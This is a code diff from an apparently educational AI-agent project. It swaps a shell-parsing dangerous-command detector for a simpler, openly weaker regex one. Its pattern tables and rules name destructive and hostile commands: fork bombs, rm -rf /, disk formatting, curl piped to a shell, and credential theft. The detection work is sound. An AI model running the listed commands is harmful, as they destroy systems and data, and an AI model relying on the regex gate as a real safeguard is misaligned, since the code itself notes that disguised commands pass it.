@@ -38,9 +38,6 @@ Chapter
 from __future__ import annotations
 
 import argparse
-import base64
-import binascii
-import bisect
 import codecs
 import contextvars
 import copy
@@ -48,7 +45,6 @@ import datetime
 import difflib
 import email.utils
 import fnmatch
-import functools
 import glob
 import hashlib
 import html
@@ -56,10 +52,10 @@ import itertools
 import json
 import os
 import platform
-import posixpath
 import random
 import re
 import select
+import shlex
 import shutil
 import signal
 import sqlite3
@@ -284,17 +280,16 @@ def checkpoint_before_command(command: str) -> None:
 
 
 def command_may_change_files(command: str) -> bool:
-    """Read by s09's detector, so quoting, wrappers and sh -c hide nothing: a dangerous
-    command (it was approved), a command that writes a path (a redirect, rm, mv, cp,
-    sed -i, truncate, tee, ...: write_targets()) or a git command that rewrites files.
-    When in doubt (too complex to read, or a failing check): yes."""
+    """A dangerous command (it was approved), a command that writes a path (a redirect,
+    rm, mv, cp, tee, ...: write_targets()) or a git command that rewrites files. When in
+    doubt (a failing check): yes."""
     try:
         if detect_dangerous_command(command):
             return True
         if any(not target.startswith("/dev/") for target in write_targets(command)):
             return True                         # 2>/dev/null changes no file
-        commands = commands_run(command)
-        return commands is None or any(git_rewrites_files(line.split()) for line in commands)
+        parts = SHELL_SEPARATORS.split(normalize_command(command).casefold())
+        return any(git_rewrites_files(part.split()) for part in parts)
     except Exception:
         return True
 
@@ -398,7 +393,7 @@ def git_command_name(args: list) -> str:
 
 def git_rewrites_files(words: list) -> bool:
     """`git reset --hard`, `git -C x checkout .`, ...: a git command that changes the
-    work tree. `words` is one command as commands_run() gives it."""
+    work tree. `words` is one command, split into words, in lower case."""
     if not words or words[0] != "git":
         return False
     return git_command_name(words[1:]) in GIT_REWRITES
@@ -1093,36 +1088,13 @@ def apply_limits(config: Config) -> None:
 
 
 def deny_rule_matched(command: str, rules) -> str | None:
-    """The first user deny rule (approvals.deny) that `command` matches, or None. A rule
-    is a glob matched, ignoring case, against the whole command as the detector reads
-    it (spaces squeezed) and against each command it runs (name and arguments, quoting
-    removed, wrappers skipped, also inside sh -c, $( ) and scripts). Input the parser
-    gives up on matches every rule: it cannot be shown not to match."""
-    if not rules:
-        return None
-    commands = commands_run(command)
-    if commands is None:
-        return rules[0]
-    texts = [" ".join(normalize_command(command).split()).casefold(), *commands]
+    """The first user deny rule (approvals.deny) that `command` matches, or None: a glob
+    matched, ignoring case, against the command as normalize_command() reads it (spaces
+    squeezed) and against each part between ; && || | and &."""
+    text = normalize_command(command).casefold()
+    texts = [" ".join(part.split()) for part in [text, *SHELL_SEPARATORS.split(text)]]
     return next((rule for rule in rules
-                 if any(fnmatch.fnmatchcase(text, rule.casefold()) for text in texts)), None)
-
-
-def commands_run(command: str) -> list[str] | None:
-    """Each command that `command` runs, as "name arg …" in lower case; None if it is
-    too complex to read."""
-    if len(command) > MAX_COMMAND_CHARS:
-        return None
-    token = _CURRENT_PATHS.set(_paths_for(_environment()))
-    globs = _GLOBS_SEEN.set(set())
-    try:
-        calls = _parse(normalize_command(command))
-    except _TooComplex:
-        return None
-    finally:
-        _CURRENT_PATHS.reset(token)
-        _GLOBS_SEEN.reset(globs)
-    return [" ".join([call.name, *call.args]).casefold() for call in calls]
+                 if any(fnmatch.fnmatchcase(t, rule.casefold()) for t in texts)), None)
 
 
 def chain_files() -> list[Path]:
@@ -1400,8 +1372,10 @@ class Delegator:
 
 def child_state_problem(real: Path) -> str | None:
     """A sub-agent has no memory or skill_manage tool, and write_file and patch do not
-    reach the same files either: nothing in the agent's state folder. (Its terminal
-    commands that name that folder are refused by s09's self-protection.)"""
+    reach the same files either: nothing in the agent's state folder. Its terminal
+    commands pass s09's gate like the parent's: in the teaching edition a command that
+    writes there (echo >> …/MEMORY.md) is not refused; the hardened edition refuses a
+    command that names the folder."""
     delegation = DELEGATION.get()
     if delegation is None or delegation.depth == 0:     # the parent's own writes
         return None
@@ -1676,16 +1650,12 @@ def stop_children(children: list) -> None:
 
 # ── [s09] Dangerous commands ────────────────────────────────────────────────
 
-# The article series matched 15 regexes against the raw command text. Quoting (r''m),
-# $IFS, full-width letters, paths (/bin/rm), wrappers (sudo -u root), flag order
-# (rm -f -r) and a renamed fork bomb walk past them, and `grep -r shutdown docs/`
-# trips them. So this detector reads a command the way the shell does: normalise the
-# text, split it into simple commands (also inside $(…), sh -c '…' and eval), remove
-# quoting, skip wrappers such as sudo and env, and only then ask each rule about the
-# command that really runs, with its real arguments. Like the shell, it reads paths
-# against HOME and the working directory (rm -rf ../.. may be rm -rf /), follows cd
-# within the command line, and reads a script file the command runs (sh x.sh): the
-# answer depends on the environment and the file system at detection time.
+# The article series' design: regular expressions searched in the command's text. Two
+# lists. HARDLINE_PATTERNS is the floor: checked first, never approved, not even with
+# --yolo. DANGEROUS_PATTERNS, the article's 15 first, asks the user. Before matching,
+# normalize_command() undoes the cheapest disguises. A regex reads text, not what the
+# shell will run: a name built at run time ($(echo rm)), a variable, a script file
+# all pass. Reading a command as the shell does is agents/hardened/'s lesson.
 
 
 class Finding(NamedTuple):
@@ -1693,2307 +1663,130 @@ class Finding(NamedTuple):
     key: str                   # stable id: session approvals and allowlist.json store it
     description: str           # one human line
     tier: str                  # "hardline": never runs; "dangerous": runs once approved
-    needs_human: bool = False  # only for "too complex to analyse": the parser gave up,
-                               # so it might hide anything; only a person may approve it
+    needs_human: bool = False  # only a person may approve it (the hardened edition)
 
+# Where a command starts: the start of the text or a line, after ; & | ( ` or $( ,
+# after wrappers such as sudo, env NAME=…, exec, nohup; and a path before the name
+# (/bin/rm) is allowed. Anchoring the floor here keeps `echo "never rm -rf /"` and
+# `git commit -m 'fix reboot'` from being blocked.
+COMMAND_START = (r"(?:^|[\n;&|(`]|\$\()\s*"
+                 r"(?:(?:sudo|env|exec|nohup|time|command)\s+(?:-\S+\s+|\w+=\S*\s+)*)*"
+                 r"(?:\S*/)?")
+SYSTEM_FOLDERS = "bin|boot|dev|etc|home|lib|lib64|opt|proc|root|sbin|srv|sys|usr|var"
+WORD_END = r"(?=$|[\s;&|)`])"
 
-class Rule(NamedTuple):
-    key: str
-    description: str
-    tier: str                  # which gate the rule feeds: "hardline" or "dangerous"
-    commands: str              # the command names it looks at; <groups> are below
-    check: Callable            # check(call) -> bool, for one parsed, unwrapped command
-    article_regex: str = ""    # the article series' regex that this rule replaces
-
-
-class _computed_once:
-    """A property computed on first use and then stored on the instance, like
-    functools.cached_property without the lock it takes before Python 3.12."""
-
-    def __init__(self, method):
-        self.method, self.name = method, method.__name__
-
-    def __get__(self, instance, owner=None):
-        value = instance.__dict__[self.name] = self.method(instance)
-        return value
-
-
-class Call:
-    """A command as it will really run: wrappers skipped, quoting removed."""
-
-    def __init__(self, name, words, cmd, tags, path=""):
-        self.name = name                    # lower case, no path: "/usr/bin/RM" -> "rm"
-        self.path = path                    # the command word as written: "./x.sh"
-        self.words = words                  # its arguments as Words (quoted? computed?)
-        self.args = [w.text for w in words] # the same arguments as plain text
-        self.cmd = cmd                      # the simple command: redirects, pipe, stdin
-        self.tags = frozenset(tags)         # how it runs: "xargs", "find", "sudo_stdin", …
-        self.writes = command_writes(self)  # (path as written, kind) for each path it
-                                            # may change
-    @_computed_once
-    def arguments(self):                    # options and operands, parsed once
-        return split_arguments(self.args, TAKES_VALUE.get(self.name, ()))
-
-    @_computed_once
-    def subcommand(self) -> tuple:          # git -C dir reset --hard -> ("reset", [--hard])
-        start = first_operand(self.args, TAKES_VALUE.get(self.name, ()))
-        return (self.args[start], self.args[start + 1:]) if start < len(self.args) else ("", [])
-
-    @_computed_once
-    def resolved_writes(self) -> list:      # (resolved path, kind), globs tried as names
-        return [(p, kind) for path, kind in dict.fromkeys(self.writes)
-                for p in glob_candidates(resolutions(path, self.cmd.cwds))]
-
-    @_computed_once
-    def operand_paths(self) -> list:        # operands resolved, braces expanded
-        return [p for text in dict.fromkeys(self.arguments.operands)
-                for one in expand_braces(text) for p in in_working_directory(one, self.cmd.cwds)]
-
-    @_computed_once
-    def sql(self) -> list:                  # the SQL it runs (psql -c, DROP TABLE …)
-        return sql_texts(self)
-
-    @_computed_once
-    def rm_kinds(self) -> set:              # "root", "home", "system" among what it deletes
-        return {_rm_kind(p) for p in deleted_paths(self)}
-
-
-MAX_COMMAND_CHARS = 128_000    # longer input is "too complex" (where Hermes draws the line)
-MAX_NESTING_DEPTH = 8          # $( … ) inside sh -c inside eval …: deeper is "too complex"
-MAX_COMMANDS = 400             # simple commands in one input, counting what it runs in turn
-MAX_TOKENS = 6_000             # parser steps: words, operators, quotes, escapes, $-expansions
-                               # (the two budgets keep the worst case near 25 ms)
-MAX_VALUE_CHARS = 4_096        # a longer variable value is unknown (b=$a$a… doubles each time)
-MAX_GLOB_CHARS = 256           # a longer glob pattern is not matched (fnmatch is quadratic)
-MAX_GLOB_PATTERNS = 200        # different glob patterns matched in one input (each is compiled)
-MAX_SCRIPT_BYTES = 64 * 1024   # a script file the command runs is read up to this size
-
-# The 15 patterns of the article series come first, with their descriptions, so that a
-# reader of the articles recognises them. Each matched the raw text with re.search (its
-# regex is kept in article_regex, for the chapter); here the same idea is a check on the
-# parsed command. The tier column says which gate a rule feeds. The article mixed
-# things a user may approve with things nobody should: a write onto a disk, shutdown,
-# kill -1 and a fork bomb now feed the hardline tier, and the rules after the 15 make
-# rm of /, of a system directory or of home, and a format of a disk hardline too (the
-# article's rm, mkfs and dd entries keep the approvable rest). The commands column
-# names the commands a rule looks at; <groups> such as <writes> or <runs-code> are
-# explained in _groups(). The checks are lambdas so that they may call the helpers
-# defined further down.
-DANGEROUS_PATTERNS = [
-    Rule("rm_recursive_force", "Recursive/force file deletion", "dangerous", "rm",
-         lambda c: recursive(c) and (forced(c) or has_option(c, "", "--no-preserve-root")),
-         r"rm\s+(-[a-zA-Z]*f[a-zA-Z]*\s+|.*--no-preserve-root)"),
-    Rule("rm_recursive", "Recursive file deletion", "dangerous", "rm",
-         lambda c: recursive(c) and not forced(c), r"rm\s+-[a-zA-Z]*r"),
-    Rule("mkfs", "Filesystem format", "dangerous", "<mkfs>",
-         lambda c: bool(_MKFS.fullmatch(c.name)) and not asks_for_help(c), r"mkfs\."),
-    Rule("dd", "Raw disk write", "dangerous", "dd",
-         lambda c: any(a.startswith(("if=", "of=")) for a in c.args), r"dd\s+if="),
-    Rule("hardline_device_write", "Direct device write", "hardline", "<writes>",
-         lambda c: any(map(is_block_device, written(c))), r">\s*/dev/sd[a-z]"),
-    Rule("chmod_world_writable", "World-writable permissions", "dangerous", "chmod",
-         lambda c: any(world_writable(m) for m in c.arguments.operands[:1]),
-         r"chmod\s+(-R\s+)?777"),
-    Rule("chown_recursive", "Recursive ownership change", "dangerous", "chown",
-         lambda c: recursive(c) and chown_to_root_or_system(c), r"chown\s+-R\s+"),
-    Rule("hardline_shutdown", "System shutdown/reboot", "hardline",
-         "shutdown reboot halt poweroff init telinit systemctl loginctl",
-         lambda c: shuts_down(c), r"shutdown|reboot|poweroff|init\s+[06]"),
-    Rule("hardline_kill_all", "Kill all processes", "hardline", "kill pkill killall5",
-         lambda c: kills_every_process(c), r"kill\s+-9\s+(-1|1\b)"),
-    Rule("hardline_fork_bomb", "Fork bomb", "hardline", "<function>",
-         lambda c: bool(c.cmd.func) and c.name == c.cmd.func and c.name in c.cmd.called
-         and (c.cmd.background or c.name in c.cmd.upstream),
-         r":\(\)\s*\{\s*:\|\s*:\s*&\s*\}\s*;"),
-    Rule("sql_drop", "SQL destructive operation", "dangerous", "<sql>",
-         lambda c: any(_SQL_DROP.search(t) for t in c.sql),
-         r"DROP\s+(TABLE|DATABASE|INDEX)"),
-    Rule("sql_truncate", "SQL truncate", "dangerous", "<sql>",
-         lambda c: any(_SQL_TRUNCATE.search(t) for t in c.sql), r"TRUNCATE\s+TABLE"),
-    Rule("sql_delete_all", "SQL delete without WHERE", "dangerous", "<sql>",
-         lambda c: any(deletes_every_row(t) for t in c.sql),
-         r"DELETE\s+FROM\s+\w+\s*;?\s*$"),
-    Rule("curl_pipe_shell", "Pipe remote script to shell", "dangerous", "<runs-code>",
-         lambda c: "curl" in c.cmd.upstream and program_from_stdin(c),
-         r"curl\s+.*\|\s*(bash|sh|zsh)"),
-    Rule("wget_pipe_shell", "Pipe remote script to shell", "dangerous", "<runs-code>",
-         lambda c: "wget" in c.cmd.upstream and program_from_stdin(c),
-         r"wget\s+.*\|\s*(bash|sh|zsh)"),
-    # ── this stage's hardline rules ──
-    Rule("hardline_rm_root", "delete of the root directory", "hardline", "<deletes>",
-         lambda c: "root" in c.rm_kinds),
-    Rule("hardline_rm_system_dir", "delete of a top-level system directory", "hardline",
-         "<deletes>", lambda c: "system" in c.rm_kinds),
-    Rule("hardline_rm_home", "delete of the home directory", "hardline", "<deletes>",
-         lambda c: "home" in c.rm_kinds),
-    Rule("hardline_format_device", "format or wipe of a disk", "hardline",
-         "<mkfs> <disk-tools>", lambda c: formats_device(c)),
-    Rule("hardline_sysrq", "write to /proc/sysrq-trigger (instant reboot or crash)",
-         "hardline", "<writes>", lambda c: "/proc/sysrq-trigger" in written(c)),
-    # ── this stage's dangerous rules ──
-    Rule("rm_system_path", "delete under a system directory", "dangerous", "rm",
-         lambda c: any(not _rm_kind(p) and under_system_dir(p) and not in_home(p)
-                       for p in c.operand_paths)),
-    Rule("move_system_dir", "move of /, a system directory or the home directory",
-         "dangerous", "mv", lambda c: any(map(_rm_kind, written(c, ("move",))))),
-    Rule("chmod_system", "permission change of /, the home directory or system files",
-         "dangerous", "chmod chown chgrp",
-         lambda c: any(_rm_kind(p) or system_file(p) for p in written(c, ("meta",)))),
-    Rule("write_system_file", "write into a system directory (/etc, /usr, …)",
-         "dangerous", "<writes>",
-         lambda c: any(map(system_file, written(c, ("write", "move"))))),
-    Rule("write_sensitive_file", "write to SSH keys, credentials or a shell start-up file",
-         "dangerous", "<writes>",
-         lambda c: any(map(sensitive_file, written(c, ("write", "move"))))),
-    Rule("write_agent_state", "write to the agent's own state files", "dangerous", "<writes>",
-         lambda c: any(map(agent_state, written(c, ("write", "move", "delete"))))),
-    Rule("systemctl_stop", "stop, restart or disable a system service", "dangerous",
-         "systemctl service", lambda c: stops_service(c)),
-    Rule("kill_force", "force-kill processes by name (SIGKILL)", "dangerous",
-         "pkill killall", lambda c: kill_signal(c)[0] in ("9", "KILL")),
-    Rule("kill_agent", "kill the agent itself", "dangerous", "kill pkill killall",
-         lambda c: kills_the_agent(c)),
-    Rule("kill_computed", "kill processes chosen at run time ($(pgrep …))", "dangerous",
-         "kill pkill killall", lambda c: any(w.subs for w in c.words)),
-    Rule("shell_c", "shell command via -c", "dangerous", "<shells>",
-         lambda c: c.name in SHELLS and shell_program(c.args)[0] == "c"),
-    Rule("inline_code", "inline code run by an interpreter (python -c, node -e, …)",
-         "dangerous", "<interpreters> awk gawk mawk nawk deno sed", lambda c: runs_inline_code(c)),
-    Rule("windows_shell", "Windows shell command (cmd /c, PowerShell)", "dangerous",
-         "cmd powershell pwsh", lambda c: runs_windows_shell(c)),
-    Rule("remote_to_shell", "remote content run as code", "dangerous",
-         "<runs-code> <tags>", lambda c: runs_remote_code(c)),
-    Rule("decoded_to_shell", "decoded payload piped into a shell", "dangerous",
-         "<runs-code>",
-         lambda c: "<decode>" in c.cmd.upstream and program_from_stdin(c)),
-    Rule("script_on_stdin", "shell or interpreter reading a script from stdin (pipe, heredoc)",
-         "dangerous", "<runs-code>", lambda c: bool(c.cmd.stdin or c.cmd.upstream)
-         and not c.cmd.upstream & _REMOTE_OR_DECODED and program_from_stdin(c)),
-    Rule("xargs_rm", "delete of files named on stdin (xargs rm)", "dangerous",
-         "rm unlink rmdir shred", lambda c: "xargs" in c.tags),
-    Rule("find_delete", "find deleting files (-delete, -exec rm)", "dangerous",
-         "find rm unlink rmdir shred",
-         lambda c: c.name == "find" and "-delete" in c.args
-         or "find" in c.tags and c.name in ("rm", "unlink", "rmdir", "shred")),
-    Rule("git_reset_hard", "git reset --hard (uncommitted work is lost)", "dangerous", "git",
-         lambda c: c.subcommand[0] == "reset" and any(    # git accepts --h, --ha, --har
-             len(a) > 2 and "--hard".startswith(a) for a in c.subcommand[1])),
-    Rule("git_clean_force", "git clean -f (untracked files are deleted)", "dangerous", "git",
-         lambda c: c.subcommand[0] == "clean" and has_option(git_arguments(c), "f", "--force")),
-    Rule("git_push_force", "git push --force (remote history is overwritten)", "dangerous",
-         "git", lambda c: c.subcommand[0] == "push" and pushes_force(git_arguments(c))),
-    Rule("git_push_delete", "git push deleting remote branches (--delete, :main, --mirror)",
-         "dangerous", "git",
-         lambda c: c.subcommand[0] == "push" and pushes_delete(git_arguments(c))),
-    Rule("git_branch_force_delete", "git branch -D (unmerged work is lost)", "dangerous",
-         "git", lambda c: c.subcommand[0] == "branch" and deletes_branch(git_arguments(c))),
-    Rule("docker_stop", "stop, kill or remove containers", "dangerous",
-         "docker podman docker-compose podman-compose", lambda c: stops_containers(c)),
-    Rule("crontab_remove", "remove or replace the crontab", "dangerous", "crontab",
-         lambda c: replaces_crontab(c)),
-    Rule("send_credentials", "credential file sent over the network", "dangerous", "<network>",
-         lambda c: sends_credentials(c)),
-    Rule("computed_command", "command name computed at run time", "dangerous", "<tags>",
-         lambda c: "computed_name" in c.tags),
-    Rule("program_option", "a read-only tool told to run a program (rg --pre, …)",
-         "dangerous", "<tags>", lambda c: "program_option" in c.tags),
-    Rule("sudo_stdin_password", "sudo reading a password from stdin (sudo -S)", "dangerous",
-         "<tags>", lambda c: "sudo_stdin" in c.tags),
+HARDLINE_PATTERNS = [
+    (COMMAND_START + r"rm\s+(?:[^\s;&|]+\s+)*(?:/|/\*|~/?\*?|\$\{?HOME\}?/?\*?|/(?:"
+     + SYSTEM_FOLDERS + r")/?\*?)" + WORD_END,
+     "delete of /, the home folder or a system folder"),
+    (COMMAND_START + r"(?:mkfs(?:\.\w+)?|mke2fs|mkswap|wipefs)\s+.*/dev/",
+     "format of a disk (mkfs onto a device)"),
+    (COMMAND_START + r"dd\s+.*\bof=/dev/(?!null\b|zero\b|stdout\b|stderr\b)",
+     "dd onto a device"),
+    (r">\s*/dev/(?:sd|hd|vd|xvd|nvme|mmcblk)", "write onto a disk device"),
+    (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", "fork bomb"),
+    (COMMAND_START + r"(?:shutdown|reboot|halt|poweroff)" + WORD_END, "shutdown or reboot"),
+    (COMMAND_START + r"(?:init|telinit)\s+[06]" + WORD_END, "init 0/6 (shutdown or reboot)"),
+    (COMMAND_START + r"systemctl\s+(?:poweroff|reboot|halt|kexec)" + WORD_END,
+     "systemctl poweroff/reboot"),
+    (COMMAND_START + r"kill\s+(?:-\S+\s+)*-1" + WORD_END, "kill every process (kill -1)"),
 ]
 
-TOO_COMPLEX = "too_complex"    # the key of the finding for input the parser gave up on
+# The article series' 15 patterns, in its order and with its descriptions, searched in
+# the normalised command (ignoring case); then a few of this course's. A description is
+# also the finding's key: "always" stores it in allowlist.json.
+DANGEROUS_PATTERNS = [
+    (r"rm\s+(-[a-zA-Z]*f[a-zA-Z]*\s+|.*--no-preserve-root)", "Recursive/force file deletion"),
+    (r"rm\s+-[a-zA-Z]*r", "Recursive file deletion"),
+    (r"mkfs\.", "Filesystem format"),
+    (r"dd\s+if=", "Raw disk write"),
+    (r">\s*/dev/sd[a-z]", "Direct device write"),
+    (r"chmod\s+(-R\s+)?777", "World-writable permissions"),
+    (r"chown\s+-R\s+", "Recursive ownership change"),
+    (r"shutdown|reboot|poweroff|init\s+[06]", "System shutdown/reboot"),
+    (r"kill\s+-9\s+(-1|1\b)", "Kill all processes"),
+    (r":\(\)\s*\{\s*:\|\s*:\s*&\s*\}\s*;", "Fork bomb"),
+    (r"DROP\s+(TABLE|DATABASE|INDEX)", "SQL destructive operation"),
+    (r"TRUNCATE\s+TABLE", "SQL truncate"),
+    (r"DELETE\s+FROM\s+\w+\s*;?\s*$", "SQL delete without WHERE"),
+    (r"curl\s+.*\|\s*(bash|sh|zsh)", "Pipe remote script to shell"),
+    (r"wget\s+.*\|\s*(bash|sh|zsh)", "Pipe remote script to shell"),
+    # This course's additions.
+    (r"\brm\s+(-\S+\s+)*--recursive", "Recursive file deletion"),
+    (r"\bgit\s+reset\s+(\S+\s+)*--hard", "git reset --hard (uncommitted work is lost)"),
+    (r"\bgit\s+push\s+(\S+\s+)*(--force|-f\b)", "git push --force (remote history is lost)"),
+    (r"\bgit\s+clean\s+(\S+\s+)*-[a-z]*f", "git clean -f (untracked files are deleted)"),
+    (r"\b(ba|z|da|k)?sh\s+-[a-z]*c\b", "shell command via -c"),
+    (r"\b(python[0-9.]*|node|perl|ruby)\s+-[a-z]*[ce]\b",
+     "inline code run by an interpreter"),
+]
+
+ESCAPE_SEQUENCE = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)"
+                             r"|\x1b[@-_]")
+INVISIBLE = re.compile("[\x00\u200b-\u200f\u2060\ufeff]")
+WORD_SPLITTERS = re.compile(r"""['"]|\\(?=\S)""")       # r''m, "rm", \halt
 
 
 def normalize_command(command: str) -> str:
-    """The text the detector reads, in this order: terminal escape sequences and other
-    control characters removed (newline and tab stay; \\r\\n becomes \\n), invisible
-    characters removed, Unicode NFKC (full-width ｒｍ, the ideographic space, ／ and －
-    fold to ASCII), backslash-newline continuations joined."""
-    text = command.replace("\r\n", "\n")
-    text = _ESCAPE_SEQUENCE.sub("", text)
-    text = _CONTROL_CHARACTER.sub("", text)          # NUL is one of them
-    text = _INVISIBLE_CHARACTER.sub("", text)
-    text = unicodedata.normalize("NFKC", text)
-    return text.replace("\\\n", "")
+    """The text the patterns read: terminal escape sequences and invisible characters
+    removed, Unicode NFKC (full-width ｒｍ becomes rm), line continuations joined,
+    quotes and word-splitting backslashes removed (r''m, \\halt), $IFS a space."""
+    text = ESCAPE_SEQUENCE.sub("", command)
+    text = INVISIBLE.sub("", text)
+    text = unicodedata.normalize("NFKC", text).replace("\\\n", "")
+    text = WORD_SPLITTERS.sub("", text)
+    return IFS_VARIABLE.sub(" ", text)
 
 
 def detect_hardline_command(command: str) -> Finding | None:
-    """The first hardline finding, or None. None also for input too complex to analyse:
-    detect_dangerous_command reports that one, and only a person may approve it."""
-    return next((f for f in _analyse(command).findings if f.tier == "hardline"), None)
+    """The first hardline pattern the command matches, or None."""
+    text = normalize_command(command)
+    for pattern, description in HARDLINE_PATTERNS:
+        if re.search(pattern, text, re.IGNORECASE | re.MULTILINE):
+            return Finding(description, description, "hardline")
+    return None
 
 
 def detect_dangerous_command(command: str) -> list[Finding]:
-    """Every dangerous-tier finding, one per key; [] when nothing is dangerous."""
-    analysis = _analyse(command)
-    if analysis.problem:
-        return [Finding(TOO_COMPLEX, f"too complex to analyse: {analysis.problem}",
-                        "dangerous", needs_human=True)]
-    return [f for f in analysis.findings if f.tier == "dangerous"]
+    """Every dangerous pattern the command matches, one finding per description."""
+    text = normalize_command(command)
+    found = {description: Finding(description, description, "dangerous")
+             for pattern, description in DANGEROUS_PATTERNS
+             if re.search(pattern, text, re.IGNORECASE | re.MULTILINE)}
+    return list(found.values())
+
+
+# The commands whose operands are paths they write: s09's write protection and s12's
+# checkpoints ask write_targets() which paths a command may change.
+PATH_WRITERS = {"rm", "rmdir", "mv", "cp", "touch", "truncate", "mkdir", "ln", "tee",
+                    "install", "chmod", "chown", "shred", "unlink"}
+SHELL_SEPARATORS = re.compile(r"&&|\|\||[;&|\n]")
+REDIRECT = re.compile(r"[0-9&]?>>?\|?\s*([^\s;&|<>]+)")      # > f, 2>> f, &> f; not >&2
+INPUT_REDIRECT = re.compile(r"[0-9]?<{1,3}\s*[^\s;&|<>]+")     # < f, << EOF, <<< word: read
 
 
 def write_targets(command: str) -> list[str]:
-    """Every path the command may create, change or delete, as written (quotes removed):
-    redirects, tee, cp/mv/install/ln, sed -i, dd of=, rm, chmod, touch, curl -o, ...
-    ["*"] when the command is too complex to analyse."""
-    analysis = _analyse(command)
-    return ["*"] if analysis.problem else list(analysis.writes)
-
-
-class _Analysis(NamedTuple):
-    findings: tuple            # hardline and dangerous, one per key, in table order
-    writes: tuple              # paths as written
-    problem: str = ""          # why it is too complex to analyse ("" = it is not)
-    read_files: tuple = ()     # (path, what was read) of the script files it runs (sh x.sh)
-
-
-def _analyse(command: str) -> _Analysis:
-    # The gate asks three questions about one command; the answer depends on the
-    # environment too (HOME, LEARN_HERMES_HOME, the working directory), so that is part
-    # of the cache key. It may also depend on a script file the command runs, which can
-    # change between two calls: a cached answer counts only while each file is the same.
-    environment = _environment()
-    analysis = _analyse_cached(command, environment)
-    if any(file_head(path) != seen for path, seen in analysis.read_files):
-        _analyse_cached.cache_clear()
-        analysis = _analyse_cached(command, environment)
-    return analysis
-
-
-def _analyse_now(command, environment) -> _Analysis:
-    if len(command) > MAX_COMMAND_CHARS:
-        return _Analysis((), (), f"longer than {MAX_COMMAND_CHARS:,} characters")
-    readings = [normalize_command(command)]
-    # Stripping an escape sequence can also remove what the shell would obey: to a
-    # terminal "\x1b[;r" is one sequence, to bash ";" separates two commands. Such input
-    # is read a second time with only the control characters dropped; both count.
-    if _SECOND_READING.search(command):
-        readings.append(_CONTROL_CHARACTER.sub("", command.replace("\r\n", "\n"))
-                        .replace("\\\n", ""))
-    found, writes, files = {}, {}, {}
-    token, globs = _CURRENT_PATHS.set(_paths_for(environment)), _GLOBS_SEEN.set(set())
-    try:
-        for text in readings:
-            _check(text, found, writes, files)
-    except _TooComplex as limit:
-        return _Analysis((), (), str(limit), tuple(files.items()))
-    finally:
-        _CURRENT_PATHS.reset(token)
-        _GLOBS_SEEN.reset(globs)
-    ordered = sorted(found.values(), key=lambda f: _RULE_ORDER[f.key])
-    return _Analysis(tuple(ordered), tuple(writes), "", tuple(files.items()))
-
-
-_analyse_cached = functools.lru_cache(maxsize=64)(_analyse_now)
-
-
-def _check(text: str, found: dict, writes: dict, files: dict) -> None:
-    """Parse one reading of the command and ask every rule about every call."""
-    for call in _parse(text, files):
-        writes.update(dict.fromkeys(path for path, _ in call.writes))
-        for rule in _rules_for(call):
-            if rule.key not in found and rule.check(call):
-                found[rule.key] = Finding(rule.key, rule.description, rule.tier)
-
-# ── [s09] Detector details ──────────────────────────────────────────────────
-
-# Normalisation. ECMA-48 escape sequences: CSI (colours), OSC/DCS/SOS/PM/APC strings up
-# to BEL or ST, nF, and two-byte Fp/Fe/Fs; their 8-bit forms too. No nested
-# quantifiers: each alternative is one pass over its characters.
-_ESCAPE_SEQUENCE = re.compile(
-    r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b[\]PX^_][^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)"
-    r"|\x1b[ -/]+[0-~]|\x1b[0-~]|\x9b[0-?]*[ -/]*[@-~]"
-    r"|[\x90\x98\x9d\x9e\x9f][^\x07\x1b\x9c]*[\x07\x9c]")
-_CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")   # all but \t and \n
-_INVISIBLE_CHARACTER = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064"
-                                  "\u2066-\u2069\ufeff]")
-_SECOND_READING = re.compile("[\x1b\x80-\x9f\u0338]")   # ESC, C1, and U+0338 (NFKC joins
-                                                        # it to < > = as ≮ ≯ ≠)
-
-SYSTEM_DIRS = {"bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "proc", "root",
-               "sbin", "srv", "sys", "usr", "var"}
-# Where a write (not a delete) is dangerous: /var, /opt, /srv and /home hold ordinary
-# data, /private is macOS's home of /etc and /var.
-SYSTEM_WRITE_DIRS = ("/etc", "/boot", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/sys",
-                     "/proc", "/private", "/dev/mem", "/dev/kmem", "/dev/port")
-_BLOCK_DEVICE = re.compile(r"/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|"
-                           r"md/|dm-\d|loop\d|nbd\d|r?disk|mapper/|block/)")
-_MKFS = re.compile(r"mkfs(?:\.\w+)?|mke2fs|mkswap|mkdosfs|mkntfs|mkexfatfs|newfs(?:_\w+)?")
-MKFS_NAMES = ("mkfs mkfs.ext2 mkfs.ext3 mkfs.ext4 mkfs.xfs mkfs.btrfs mkfs.vfat mkfs.fat "
-              "mkfs.msdos mkfs.ntfs mkfs.exfat mkfs.f2fs mkfs.minix mke2fs mkswap mkdosfs "
-              "mkntfs").split()       # the names a glob such as mkfs.ext? may stand for
-# Other tools that wipe a disk, and what makes them do it: an option or a verb among
-# the words, "*" = always, unless they only read (-l lists, -d dumps …), "<stdin>" =
-# when a script arrives on stdin (fdisk /dev/sda <<< w).
-DISK_TOOLS = {
-    "blkdiscard": "*", "shred": "*", "wipefs": "-a --all", "sgdisk": "-Z -o --zap-all --clear",
-    "parted": "mklabel mktable mkpart rm resizepart", "sfdisk": "*",
-    "cryptsetup": "luksFormat erase luksErase reencrypt", "nvme": "format sanitize",
-    "hdparm": "--security-erase --security-erase-enhanced --trim-sector-ranges",
-    "badblocks": "-w", "fdisk": "<stdin>", "gdisk": "<stdin>", "cfdisk": "<stdin>"}
-DISK_TOOLS_READ_ONLY = {"-l", "--list", "-d", "--dump", "-J", "--json", "-V", "--verify",
-                        "-s", "--show-size", "-g", "--show-geometry", "-n", "--no-act",
-                        "-p", "--print", "--help", "--version"}
-SECRET_DIRS = (".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config/gh",
-               ".config/gcloud")
-SHELL_STARTUP_FILES = {".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile",
-                       ".zshrc", ".zprofile", ".zshenv", ".zlogin", ".zlogout", ".kshrc",
